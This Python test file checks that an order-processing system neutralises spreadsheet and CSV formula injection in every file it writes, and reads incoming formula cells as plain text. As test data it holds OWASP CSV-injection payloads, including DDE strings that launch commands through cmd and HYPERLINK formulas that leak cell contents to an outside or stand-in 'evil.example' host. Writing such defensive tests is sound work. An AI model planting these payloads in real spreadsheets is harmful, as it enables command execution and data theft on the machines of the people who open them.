"""Issue 16: formula injection is neutralised in every spreadsheet and csv yidi writes (one writer,
``yidi.sheets``), and a formula cell in an incoming order spreadsheet is read as its text."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

import pandas as pd
import pytest
from intake_support import frame
from openpyxl import Workbook, load_workbook
from sqlalchemy import insert

from connectors.spreadsheet_orders import SpreadsheetConnector
from tasks.fulfilment.documents import PICK_COLUMNS, write_pick_lists
from tasks.fulfilment.stocktake import write_stock_report
from tasks.intake.landing import run_channel
from tasks.review.columns import formula_text_fields
from tasks.settlement.report import write_workbook
from yidi.export import export_table
from yidi.schema import orders
from yidi.sheets import csv_safe, is_formula_like, write_csv, write_xlsx

# The payloads of OWASP's "CSV Injection" page (and its ASVS 1.2.10 starting characters), plus the issue's own.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
    "-2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "@SUM(A1:A9)",
    "-2+3 路1号",
]
HARMLESS = ["张三", "重庆市渝中区解放碑88号", "-12.50", "+3", "1,234.00", "SKU-0001", "a=b", "O'Brien", "50%"]


def test_the_owasp_payloads_are_written_as_text_and_everything_else_unchanged(tmp_path):
    values = OWASP_PAYLOADS + HARMLESS
    table = pd.DataFrame({"text": values, "number": range(-1, len(values) - 1)})
    write_csv(table, tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    for (text, number), value, expected_number in zip(rows, values, table["number"], strict=True):
        assert text == ("'" + value if value in OWASP_PAYLOADS else value)
        assert number == str(expected_number)  # numbers stay numbers, the minus sign included
    write_xlsx({"sheet": table}, tmp_path / "out.xlsx")
    sheet = load_workbook(tmp_path / "out.xlsx").active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # Shown to people exactly as received (XML itself reads a bare carriage return as a line feed).
    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in values]
    assert {c.data_type for c in cells} == {"s"}  # typed as strings: never a live formula
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == list(table["number"])


def test_formula_like_is_the_owasp_starting_characters_less_plain_numbers():
    assert all(is_formula_like(p) for p in OWASP_PAYLOADS)
    assert not any(is_formula_like(v) for v in HARMLESS)
    assert csv_safe(pd.DataFrame({"=x": ["ok"]})).columns.tolist() == ["'=x"]  # a header is a cell too


def _hostile_order(conn) -> None:
    conn.execute(insert(orders), [{
        "order_no": "Y1", "channel": "phone", "channel_order_id": "A1", "customer_name": OWASP_PAYLOADS[6],
        "ship_detail": "+cmd|' /C calc'!A0", "order_time": datetime(2026, 11, 26, tzinfo=UTC),
    }])  # fmt: skip


def test_yidi_export_csv_and_xlsx_never_hold_a_live_formula(engine, tmp_path):
    with engine.begin() as conn:
        _hostile_order(conn)
        export_table(conn, "orders", "csv", tmp_path / "orders.csv")
        export_table(conn, "orders", "xlsx", tmp_path / "orders.xlsx")
    exported = pd.read_csv(tmp_path / "orders.csv", encoding="utf-8-sig", dtype=str)
    assert exported["customer_name"][0] == "'" + OWASP_PAYLOADS[6]
    assert exported["ship_detail"][0] == "'+cmd|' /C calc'!A0"
    sheet = load_workbook(tmp_path / "orders.xlsx").active
    header = [c.value for c in sheet[1]]
    name = sheet.cell(row=2, column=header.index("customer_name") + 1)
    assert (name.value, name.data_type) == (OWASP_PAYLOADS[6], "s")
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_settlement_workbook_pick_lists_and_stock_reports_hold_no_formula(tmp_path, monkeypatch):
    monkeypatch.setenv("YIDI_HOME", str(tmp_path / "home"))
    payer = "=HYPERLINK(\"http://evil.example\",\"退款\")"
    path = write_workbook({"lines": pd.DataFrame({"payer_name": [payer, "张三"], "amount_yuan": ["-12.50", "3.00"]}),
                           "summary": pd.DataFrame({"a": [1]})}, tmp_path / "settlement.xlsx")
    book = load_workbook(path)
    cell = book["流水明细"]["A2"]
    assert (cell.value, cell.data_type) == (payer, "s")
    picks = pd.DataFrame([{key: None for key in PICK_COLUMNS} | {
        "warehouse": "CQ", "item_code": "SKU-1", "item_name": "@SUM(1+1)*cmd|' /C calc'!A0", "quantity": 2,
        "unit": "件", "order_no": "Y1"}])  # fmt: skip
    written = write_pick_lists(picks, "test")
    xlsx = next(p for p in written if p.suffix == ".xlsx")
    csv_file = next(p for p in written if p.suffix == ".csv")
    assert load_workbook(xlsx)["拣货单"]["C2"].data_type == "s"
    assert pd.read_csv(csv_file, encoding="utf-8-sig", dtype=str)["品名"][0] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    report = write_stock_report({"variances": pd.DataFrame({"item_name": ["-cmd|' /C calc'!A0"]})}, "st")
    cell = load_workbook(report)["盘点差异"]["A2"]
    assert (cell.value, cell.data_type) == ("-cmd|' /C calc'!A0", "s")


def _with_saved_result(path, cell_ref: str, formula: str, result: str) -> None:
    """openpyxl cannot save a formula's result; Excel does. Put one in, as Excel would have saved it."""
    book = Workbook()
    sheet = book.active
    sheet.append(["订单号", "下单时间", "客户名称", "联系电话", "收货地址", "商品编码", "商品名称", "数量", "单价（元）"])
    sheet.append(["F1", "2026-11-26 09:30", "PLACEHOLDER", "13812345678", "重庆市渝中区解放碑88号", "SKU-1", "杯子",
                  2, 10])
    buffer = io.BytesIO()
    book.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    with zipfile.ZipFile(path, "w") as out:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                start = text.index(f'<c r="{cell_ref}"')
                end = text.index("</c>", start) + len("</c>")
                escaped = formula.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
                text = text[:start] + f'<c r="{cell_ref}" t="str"><f>{escaped[1:]}</f><v>{result}</v></c>' + text[end:]
                data = text.encode()
            out.writestr(item, data)


def test_a_formula_cell_in_an_incoming_spreadsheet_is_read_as_its_text(engine, tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    formula = '=HYPERLINK("http://evil.example","张三")'
    _with_saved_result(inbox / "orders.xlsx", "C2", formula, "张三")
    assert load_workbook(inbox / "orders.xlsx", data_only=True).active["C2"].value == "张三"  # Excel's saved result
    summary = run_channel(engine, SpreadsheetConnector("spreadsheet", {"inbox_dir": str(inbox), "settle_seconds": 0}))
    assert summary.new == 1
    stored = frame(engine, "SELECT id, customer_name, ship_detail FROM orders")
    assert stored["customer_name"].tolist() == [formula]
    # ...and the review counts it (reason TEXT_IS_FORMULA; the review suite shows the code firing end to end).
    lines = pd.DataFrame({"order_id": stored["id"], "item_name": ["杯子"], "spec": [None], "model": [None]})
    assert formula_text_fields(stored.set_index("id", drop=False), lines).tolist() == [1]


@pytest.mark.parametrize("text", ["-2+3 路1号", "@楼下", "+86 138"])
def test_review_does_not_take_other_starting_characters_for_formulas(text):
    order = pd.DataFrame({"customer_name": ["张三"], "ship_detail": [text]}, index=[1])
    assert formula_text_fields(order, pd.DataFrame(columns=["order_id", "item_name", "spec", "model"])).tolist() == [0]


def test_every_spreadsheet_and_csv_we_write_goes_through_the_one_writer():
    """pandas' own writers would store '=…' as a live formula (xlsx) or raw (csv): production code calls
    ``yidi.sheets`` instead. (Reading csv text into rows, as the template reader does, is not writing a file.)"""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    direct = re.compile(r"\.to_excel\(|ExcelWriter\(|\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|Workbook\(\)")
    allowed = {"yidi/sheets.py", "connectors/template/csv_rows.py"}  # and yidi/data/build_*: reference data
    offenders = []
    for package in ("app", "flows", "tasks", "connectors", "yidi"):
        for path in sorted((root / package).rglob("*.py")):
            name = str(path.relative_to(root))
            if name in allowed or name.startswith("yidi/data/"):
                continue
            text = path.read_text(encoding="utf-8")
            inside_safe_writer = "excel_writer(" in text  # frames written into yidi.sheets.excel_writer
            for n, line in enumerate(text.splitlines(), start=1):
                if direct.search(line) and not (inside_safe_writer and ".to_excel(writer" in line):
                    offenders.append(f"{name}:{n}")
    assert offenders == []
